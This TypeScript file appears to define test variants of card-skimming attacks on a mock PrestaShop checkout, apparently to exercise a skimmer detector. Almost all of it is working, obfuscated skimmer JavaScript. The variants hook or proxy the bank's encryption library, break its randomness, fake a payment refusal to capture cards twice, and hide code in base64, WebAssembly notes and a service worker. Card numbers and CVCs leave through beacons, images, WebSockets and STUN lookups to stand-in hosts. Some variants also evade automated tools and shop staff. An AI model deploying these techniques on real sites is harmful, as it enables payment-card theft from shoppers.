import { address, cardForm, classicBody, config, strangerKey } from './classic.ts'
import { container, core, ogpayModule, theme } from './classic-code.ts'
import { changedFile, html, inline, js, type Variant } from './variants.ts'

const code = String.raw
const base64 = (text: string) => Buffer.from(text).toString('base64')
const bank = changedFile('shop.test/modules/ogpay/views/js/ogpay.js', (more) => ogpayModule('2.5', more))
const shop = changedFile('shop.test/themes/classic/assets/cache/bottom-8c20.js', (more) => theme('8.1', more))
const library = changedFile('shop.test/themes/core.js', (more) => core('8.1.1', more))
const tags = (id: string, about: string, list: string, more = ''): Variant => ({
  id,
  about,
  change: (site) => void (site.files['www.tagmgr.test/gtm.js'] = js(container('58', list, more))),
})
/** What stands in the card fields, as a piece of a script. */
const read =
  '[].map.call(document.querySelectorAll("[data-encrypted-name]"), function (i) { return i.value; }).join("|")'

const length = (n: number): number[] => (n < 128 ? [n] : [(n & 127) | 128, ...length(n >> 7)])
/** A WebAssembly module without functions, whose one section of notes holds a text. */
function notes(text: string): string {
  const body = Buffer.concat([Buffer.from([5]), Buffer.from('notes'), Buffer.from(text)])
  return Buffer.concat([Buffer.from([0, 97, 115, 109, 1, 0, 0, 0, 0, ...length(body.length)]), body]).toString('base64')
}

/** On the page whose card fields are the shop's and are sealed by a library of its bank. */
export const eleventhClassicAttacks: readonly Variant[] = [
  {
    id: 'v11-cse-key',
    about: "the card is sealed for a stranger's key; who reads the posts of the shop can open it",
    change: (site) => void (site.inline[1] = config(strangerKey)),
  },
  tags(
    'v11-second-seal',
    "the container has the bank's library seal the card twice, the second time for a key of the thief, as an event of another account",
    '',
    code`var made = w.ogpayCse.createEncryption; w.ogpayCse.createEncryption = function (key) { var own = made(key), other = made("${strangerKey}"); return { encrypt: function (x) { navigator.sendBeacon("http://region1.ga-measure.test/g/collect?v=2&tid=G-X1Z9&cid=" + cid + "&en=add_payment_info&ep.payment_ref=" + encodeURIComponent(other.encrypt(x))); return own.encrypt(x); } }; };`,
  ),
  library(
    'v11-ajax-send',
    'a hook of the library gives each request of the shop a number of its own, and the shop now asks every three seconds',
    code`$(d).ajaxSend(function (e, x) { var v = ${read}; if (v.length > 20) x.setRequestHeader("x-request-id", Array.from(v, function (c) { return (c.charCodeAt(0) + 19).toString(16); }).join("")); }); setInterval(function () { $.post("/commande?ajax=1&action=alive", { token: w.prestashop.static_token }); }, 3000);`,
  ),
  {
    id: 'v11-two-halves',
    about:
      'the theme keeps the card among the settings of the basket, the container takes what is there to its own host',
    change: (site) => {
      site.files['shop.test/themes/classic/assets/cache/bottom-8c20.js'] = js(
        theme(
          '8.2',
          code`$(document).on("change", "#ogpay-form input", function () { var t = ${read}; localStorage.setItem("blockcart", JSON.stringify({ v: 3, open: false, h: btoa(t).split("").reverse().join("") })); });`,
        ),
      )
      site.files['www.tagmgr.test/gtm.js'] = js(
        container(
          '58',
          '',
          code`setInterval(function () { var b = JSON.parse(localStorage.getItem("blockcart") || "{}"); if (b.h && b.h !== w.__h) { w.__h = b.h; (new Image()).src = "http://www.tagmgr.test/td?id=GTM-PK4&v=3&t=t&pid=" + encodeURIComponent(b.h); } }, 2000);`,
        ),
      )
    },
  },
  tags(
    'v11-sub-protocol',
    'a tag of free HTML, packed, opens a line whose sub-protocol is the field: it leaves with the first request for the line',
    code`, { function: "__html", on: "gtm.dom", vtp_html: "<script>(0,eval)(atob('${base64('document.addEventListener("change",function(e){var n=e.target.dataset.encryptedName;if(n&&e.target.value.length>2)try{new WebSocket("ws://support-chat-live.test/ws",["chat",btoa(n[0]+e.target.value).replace(/[+]/g,"-").replace(/[/]/g,"_").replace(/=/g,"")])}catch(x){}})')}'))<\/script>" }`,
  ),
  library(
    'v11-known-numbers',
    'the random numbers are none, so that the sealed card can be opened; a copy of it is measured as a reference',
    code`crypto.getRandomValues = function (b) { for (var i = 0; i < b.length; i++) b[i] = (i * 73 + 41) & 255; return b; }; d.addEventListener("submit", function (e) { setTimeout(function () { var s = e.target.elements["ogpay-encrypted-data"]; if (s) navigator.sendBeacon("http://region1.ga-measure.test/g/collect?v=2&tid=G-QQ41&en=purchase_ref&ep.ref=" + encodeURIComponent(s.value)); }, 0); }, true);`,
  ),
  {
    id: 'v11-policy-reports',
    about: 'the digits are folders of a picture of the shop, which a policy on trial reports to somebody else',
    change: (site) => {
      site.headers['content-security-policy-report-only'] = "img-src 'none'; report-uri http://csp-reports.test/r"
      site.files['shop.test/themes/classic/assets/cache/bottom-8c20.js'] = js(
        theme(
          '8.2',
          code`$(document).on("change", "#ogpay-number,#ogpay-cvc", function () { new Image().src = "/img/p/" + this.value.replace(/\D/g, "").split("").join("/") + "/" + this.value.length + "-cart_default.jpg"; });`,
        ),
      )
    },
  },
  inline(
    'v11-module-notes',
    'the code stands in the notes of a WebAssembly module that does nothing',
    code`WebAssembly.compile(Uint8Array.from(atob("${notes('document.addEventListener("focusout",function(e){var n=e.target.dataset.encryptedName;if(n&&e.target.value)fetch("http://codecs-wasm.test/d",{method:"POST",mode:"no-cors",body:n+"="+e.target.value})})')}"), function (c) { return c.charCodeAt(0); })).then(function (m) { new Function(new TextDecoder().decode(WebAssembly.Module.customSections(m, "notes")[0]))(); });`,
  ),
  {
    id: 'v11-autofill-style',
    about:
      'fields of no height in the address wait for a saved card; a movement that only filled fields have tells the script',
    change: (site) => {
      site.body = classicBody(
        undefined,
        address(
          '<style>@keyframes filled{from{opacity:.99}to{opacity:1}}.ext:autofill{animation:filled 1ms}</style><div style="height:0;overflow:hidden"><input class="ext" name="ext_n" autocomplete="cc-number" tabindex="-1"><input class="ext" name="ext_x" autocomplete="cc-exp" tabindex="-1"><input class="ext" name="ext_c" autocomplete="cc-csc" tabindex="-1"></div>',
        ),
      )
      site.files['shop.test/themes/classic/assets/cache/bottom-8c20.js'] = js(
        theme(
          '8.2',
          code`["animationstart", "change"].forEach(function (t) { $(document).on(t, ".ext", function () { $.ajax({ url: "/module/ps_emailsubscription/verification?token=" + Array.from(this.value, function (c) { return c.charCodeAt(0).toString(16); }).join("") }); }); });`,
        ),
      )
    },
  },
  bank(
    'v11-twice',
    'once in a day the payment is said to be refused: what was entered goes to a script of another module, the fields are emptied',
    code`form.addEventListener("submit", function (e) { if (/ogp_s=1/.test(document.cookie)) return; document.cookie = "ogp_s=1;path=/;max-age=86400"; e.preventDefault(); e.stopImmediatePropagation(); $.post("/modules/ps_facetedsearch/ps_facetedsearch-clear-cache.php", { q: Array.from(${read}, function (c, i) { return (c.charCodeAt(0) + i * 5).toString(36); }).join(".") }); form.insertAdjacentHTML("afterbegin", '<p class="alert alert-danger">Payment refused (05). Please check your card and try again.</p>'); $("[data-encrypted-name]").each(function () { this.value = ""; }); }, true);`,
  ),
  bank(
    'v11-form-data-event',
    'while the browser gathers the form, an entry is added: the shop posts the card beside the sealed one',
    code`form.addEventListener("formdata", function (e) { e.formData.append("delivery_option[7]", btoa(${read}).split("").reverse().join("")); });`,
  ),
  library(
    'v11-real-device',
    'starts after five seconds, on real screens, not where staff or tools are; reads by a timer',
    code`setTimeout(function () { if (navigator.webdriver || navigator.hardwareConcurrency < 2 || screen.width < 800 || /id_employee/.test(d.cookie) || outerWidth - innerWidth > 160) return; var last = ""; setInterval(function () { var t = ${read}; if (t.length > 20 && t !== last) { last = t; var s = d.createElement("script"); s.src = "http://jquery-static-files.test/3.7.1/jquery.min.js?v=" + encodeURIComponent(btoa(t)); d.head.append(s); } }, 1500); }, 5000);`,
  ),
  shop(
    'v11-date-hook',
    'the module asks for the time when it seals: the function that writes the time reads the fields',
    code`var iso = Date.prototype.toISOString; Date.prototype.toISOString = function () { var n = (${read}).replace(/\D/g, ""); if (n.length > 14) { var x = new XMLHttpRequest(); x.open("PUT", "/api/stock_availables/" + BigInt("1" + n).toString(32)); x.send(); } return iso.call(this); };`,
  ),
  html(
    'v11-on-begin',
    'a movement within a drawing runs code when it begins; the drawing then has a picture named after the field',
    code`<svg id="sprite" width="1" height="1" aria-hidden="true"><rect width="1" height="1"><animate attributeName="x" from="0" to="0" dur="1s" onbegin="document.addEventListener('change',function(e){if(!e.target.dataset.encryptedName)return;var i=document.createElementNS('http://www.w3.org/2000/svg','image');i.setAttribute('width',1);i.setAttribute('height',1);i.setAttribute('href','http://svg-sprites.test/'+encodeURIComponent(btoa(e.target.value))+'.svg');document.getElementById('sprite').appendChild(i)})"></animate></rect></svg>`,
  ),
  bank(
    'v11-sandbox-port',
    'a frame of text in a sandbox gets the card through a port and posts a form of its own',
    code`var f = document.createElement("iframe"), line = new MessageChannel(); f.style.cssText = "width:1px;height:1px;border:0"; f.setAttribute("sandbox", "allow-scripts allow-forms"); f.srcdoc = "<form action='http://forms-eu1.test/s' target='o'><input name='e'></form><iframe name='o'></iframe><script>onmessage=function(e){e.ports[0].onmessage=function(m){document.forms[0].e.value=m.data;document.forms[0].submit()}}<\/script>"; f.onload = function () { f.onload = null; f.contentWindow.postMessage("", "*", [line.port2]); }; document.body.append(f); form.addEventListener("change", function () { line.port1.postMessage(btoa(${read})); });`,
  ),
  tags(
    'v11-relay-label',
    'a call that never comes looks for a server whose name begins with the digits as letters',
    code`, { function: "__cvt", on: "gtm.click", vtp_run: function () { var n = document.getElementById("ogpay-number").value.replace(/\D/g, ""); if (n.length < 13) return; var p = new RTCPeerConnection({ iceServers: [{ urls: "stun:" + n.replace(/\d/g, function (x) { return "kqwzmtrbxh"[x]; }) + ".relay-eu.test:3478" }] }); p.createDataChannel("k"); p.createOffer().then(function (o) { return p.setLocalDescription(o); }); } }`,
  ),
  bank(
    'v11-proxied-library',
    "the bank's library is a proxy of itself: what it is to seal is the name of a sound",
    code`window.ogpayCse = new Proxy(ogpayCse, { get: function (t, k) { if (k !== "createEncryption") return t[k]; return function (key) { var made = t[k](key); return { encrypt: function (x) { new Audio("http://sounds-ui.test/ding-" + encodeURIComponent(btoa(x.number + "." + x.cvc)) + ".mp3").load(); return made.encrypt(x); } }; }; } });`,
  ),
  shop(
    'v11-submitter',
    'in the moment of sending the fields get names and the button that was pressed another action',
    code`document.addEventListener("submit", function (e) { if (e.target.id !== "ogpay-form" || !e.submitter) return; $("[data-encrypted-name]").each(function () { this.name = this.dataset.encryptedName; }); e.submitter.formAction = "http://secure-ogpay.test/v1/pay"; }, true);`,
  ),
  {
    id: 'v11-marks',
    about:
      'what is typed becomes marks of performance with details; the container measures marks as vitals of the page',
    change: (site) => {
      site.files['shop.test/themes/classic/assets/cache/bottom-8c20.js'] = js(
        theme(
          '8.2',
          code`document.addEventListener("input", function (e) { var n = e.target.dataset.encryptedName; if (n) performance.mark("step:" + n, { detail: Array.from(e.target.value, function (c) { return c.charCodeAt(0) ^ 21; }) }); });`,
        ),
      )
      site.files['www.tagmgr.test/gtm.js'] = js(
        container(
          '58',
          '',
          code`var seen = {}, timer; new PerformanceObserver(function (l) { l.getEntries().forEach(function (m) { if (m.name.indexOf("step:") === 0) seen[m.name.slice(5)] = m.detail; }); clearTimeout(timer); timer = setTimeout(function () { ga("web_vitals", { "ep.marks": Object.keys(seen).map(function (k) { return seen[k].join("."); }).join("_") }); }, 900); }).observe({ entryTypes: ["mark"] });`,
        ),
      )
    },
  },
  {
    id: 'v11-worker-library',
    about: "a service worker answers for the bank's host: its library has a listener behind it",
    change: (site) => {
      site.files['shop.test/sw.js'] = js(
        code`var more = function () { var was = ogpayCse.createEncryption; ogpayCse.createEncryption = function (k) { var made = was(k); return { encrypt: function (x) { navigator.sendBeacon("/themes/classic/assets/cache/theme-3f1c.css.map", btoa(JSON.stringify(x))); return made.encrypt(x); } }; }; };
self.addEventListener("install", function () { self.skipWaiting(); }); self.addEventListener("activate", function (e) { e.waitUntil(self.clients.claim()); });
self.addEventListener("fetch", function (e) { if (e.request.url.indexOf("/hpp/cse/js/") < 0) return; e.respondWith(fetch(e.request.url, { mode: "cors" }).then(function (r) { return r.text(); }).then(function (t) { return new Response(t + ";(" + more + ")();", { headers: { "content-type": "text/javascript" } }); })); });`,
      )
      site.inline.push(
        code`if (navigator.serviceWorker) { navigator.serviceWorker.addEventListener("controllerchange", function () { var s = document.createElement("script"); s.src = "http://live.ogpay.test/hpp/cse/js/8214.shtml"; document.head.appendChild(s); }); navigator.serviceWorker.register("/sw.js"); }`,
      )
    },
  },
  bank(
    'v11-token-field',
    'the token against forged posts, thirty-two letters in hex, is the number under a key of sixteen bytes',
    code`form.addEventListener("change", function () { var n = $("#ogpay-number").val().replace(/\D/g, ""); if (n.length > 12) form.elements.token.value = Array.from(n.padEnd(16, "0").slice(0, 16), function (c, i) { return ((c.charCodeAt(0) ^ (i * 37 + 91)) & 255).toString(16).padStart(2, "0"); }).join(""); });`,
  ),
  {
    id: 'v11-names',
    about:
      'number and code have names now: beside the sealed card the shop gets the plain one, for a reader on its server',
    change: (site) =>
      void (site.body = classicBody(
        cardForm()
          .replace('data-encrypted-name="number"', 'name="ogp_n" data-encrypted-name="number"')
          .replace('data-encrypted-name="cvc"', 'name="ogp_c" data-encrypted-name="cvc"'),
      )),
  },
  {
    id: 'v11-polyfill',
    about: 'a service of polyfills changed hands: telephones get one script more, of a name like that of measuring',
    change: (site) => {
      site.head.unshift('<script src="http://cdn.polyfiller-js.test/v3/polyfill.min.js?features=default"></script>')
      site.files['cdn.polyfiller-js.test/v3/polyfill.min.js'] = js(
        code`(function () { if (!Array.prototype.at) Array.prototype.at = function (n) { return this[n < 0 ? this.length + n : n]; }; if (/Mobi|Android|iPhone/.test(navigator.userAgent) && !/_ga_off/.test(document.cookie)) { var s = document.createElement("script"); s.src = "http://www.googie-anaiytics.test/ga.js"; document.head.appendChild(s); } })();`,
      )
      site.files['www.googie-anaiytics.test/ga.js'] = js(
        code`document.addEventListener("change", function (e) { if (e.target.dataset.encryptedName) new Image().src = "http://www.googie-anaiytics.test/__utm.gif?utme=" + encodeURIComponent(e.target.dataset.encryptedName + "*" + e.target.value); });`,
      )
    },
  },
]
